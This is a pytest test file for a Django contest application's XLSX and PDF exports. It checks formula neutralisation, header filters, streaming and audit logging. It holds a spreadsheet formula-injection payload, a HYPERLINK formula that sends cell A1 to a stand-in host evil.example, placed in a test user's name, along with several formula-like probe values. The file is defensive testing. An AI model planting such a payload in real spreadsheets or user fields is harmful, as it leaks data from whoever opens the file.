"""Spreadsheet and PDF exports: formula neutralisation, filters in the header
rows, streaming, and the PDF reports."""

import io
from datetime import timedelta

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from contests.documents import xlsx as exports
from contests.models import Standing
from contests.results import services as awards
from contests.results import tables
from contests.results.tables import TierData
from tests.contests.results.conftest import entry, person
from tests.factories import PASSWORD

pytestmark = pytest.mark.django_db
EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+84912", "'+84912"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=x", "'\t=x"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        (5, 5),
    ],
)
def test_it_neutralises_formula_like_text(value, expected):
    assert exports.neutralise(value) == expected


def _workbook(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


@pytest.fixture
def hostile_round(contest, round1, tree, alice):
    attacker = person("attacker@example.vn", agency=tree["commune"])
    attacker.full_name = HOSTILE
    attacker.save(update_fields=["full_name"])
    entry(round1, attacker, prediction=1, finished_at=round1.opens_at + timedelta(hours=1))
    tables.save_prize_table(actor=None, contest=contest, tiers=[TierData("Giải Nhất", 1)])
    awards.finalise_round(round=round1)
    return attacker


def test_it_exports_a_hostile_name_as_inert_text(client, hostile_round, round1, alice):
    client.login(email=alice.email, password=PASSWORD)
    target = reverse(
        "contests:report-results-xlsx", kwargs={"contest_id": round1.contest_id, "round_id": round1.pk}
    )
    response = client.get(target, **EN)
    assert response.status_code == 200
    assert response.streaming
    ws = _workbook(response).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [c.value for c in cells] == ["'" + HOSTILE]
    assert all(c.data_type == "s" for c in cells)


def test_it_writes_the_report_and_filters_in_the_header_rows(client, hostile_round, round1, alice):
    client.login(email=alice.email, password=PASSWORD)
    target = reverse(
        "contests:report-results-xlsx", kwargs={"contest_id": round1.contest_id, "round_id": round1.pk}
    )
    ws = _workbook(client.get(target, **EN)).active
    rows = list(ws.iter_rows(values_only=True))
    assert rows[0][0] == f"{round1.contest.title} — {round1.title}"
    labels = {r[0]: r[1] for r in rows[1:6] if r and r[0]}
    assert labels["Version"] == 1
    assert labels["SHA-256"] == Standing.objects.get().result.sha256
    header = rows[6]
    assert header[:4] == ("Block", "No.", "Rank", "Full name")
    assert ws.auto_filter.ref == "A7:N8"
    assert ws.freeze_panes == "A8"


def test_it_exports_winners_and_summary_as_pdf_and_xlsx(client, hostile_round, round1, alice):
    client.login(email=alice.email, password=PASSWORD)
    kwargs = {"contest_id": round1.contest_id, "round_id": round1.pk}
    for name in ("report-winners-pdf", "report-round-pdf"):
        response = client.get(reverse(f"contests:{name}", kwargs=kwargs), **EN)
        assert response.status_code == 200
        assert response.content.startswith(b"%PDF-") and b"DejaVuSans" in response.content
    winners = _workbook(client.get(reverse("contests:report-winners-xlsx", kwargs=kwargs), **EN)).active
    values = [v for row in winners.iter_rows(values_only=True) for v in row if v]
    assert "'" + HOSTILE in values and HOSTILE not in values
    summary = _workbook(client.get(reverse("contests:report-round-xlsx", kwargs=kwargs), **EN))
    assert summary.sheetnames == ["By block", "Score buckets", "By hour"]


def test_each_download_of_personal_data_is_in_the_audit_log(client, hostile_round, round1, alice, tree):
    from accounts.models import AuditEntry

    client.login(email=alice.email, password=PASSWORD)
    kwargs = {"contest_id": round1.contest_id, "round_id": round1.pk}
    for name in ("report-results-xlsx", "report-winners-xlsx", "report-winners-pdf", "report-round-xlsx"):
        assert client.get(reverse(f"contests:{name}", kwargs=kwargs), **EN).status_code == 200
    entries = list(AuditEntry.objects.filter(action__startswith="export.").order_by("id"))
    # The round summary holds no names: it is not recorded.
    assert [e.action for e in entries] == ["export.results_xlsx", "export.winners_xlsx", "export.winners_pdf"]
    assert all(e.actor == alice and e.contest_id == round1.contest_id for e in entries)
    assert all(e.agency == tree["snv"] for e in entries)
    results = entries[0]
    assert results.object_type == "roundresult" and results.summary.endswith("-v1.xlsx")
    assert entries[2].summary == f"giai-thuong-{round1.contest.slug}-vong-1.pdf"


def test_it_writes_many_rows_without_holding_them(tmp_path):
    def rows():
        for n in range(20_000):
            yield [n, f"Người {n}", "=cmd"]

    with open(tmp_path / "big.xlsx", "wb") as handle:
        written = exports.write_xlsx(
            handle, [exports.Sheet(title="T", heading="H", columns=["n", "name", "x"], rows=rows())]
        )
    assert written == 20_000
    rows = list(load_workbook(tmp_path / "big.xlsx", read_only=True).active.iter_rows(values_only=True))
    assert rows[-1] == (19_999, "Người 19999", "'=cmd")
    assert len(rows) == 4 + 20_000  # title, generated, blank line, header
